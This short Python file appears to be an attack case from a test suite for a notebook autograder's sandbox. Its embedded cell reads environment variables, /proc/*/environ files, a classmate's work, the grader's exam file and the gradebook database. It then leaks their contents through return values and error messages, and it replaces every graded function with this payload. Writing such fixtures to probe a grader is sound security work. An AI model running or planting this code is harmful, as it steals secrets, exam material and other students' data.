"""What can be read at call time is sent out as the result and in the error message."""

TRIES = "files, environment and memory read inside hidden calls, returned and raised"
SUCCESS = "leak"
CELL = r"""
import glob
import os


def gather():
    found = [repr(dict(os.environ))]
    for path in [
        "@CLASSMATE@",
        "@COURSE@/grader/exams/nb01_mdp.py",
        "@OUT@/gradebook.db",
        *glob.glob("/proc/[0-9]*/environ"),
        *glob.glob("@COURSE@/@SOURCE@/*/*"),
    ]:
        try:
            with open(path, "rb") as file:
                found.append(file.read().decode("latin-1"))
        except OSError:
            pass
    for text in found:
        tell(text)
    import re

    return " ".join(re.findall(r"@CANARY@", " ".join(found)))
"""
ANSWERS = {
    "*": "def @NAME@(*args, **kwargs):\n    return gather()",
    "state_dist": "def state_dist(*args, **kwargs):\n    raise ValueError(gather())",
}
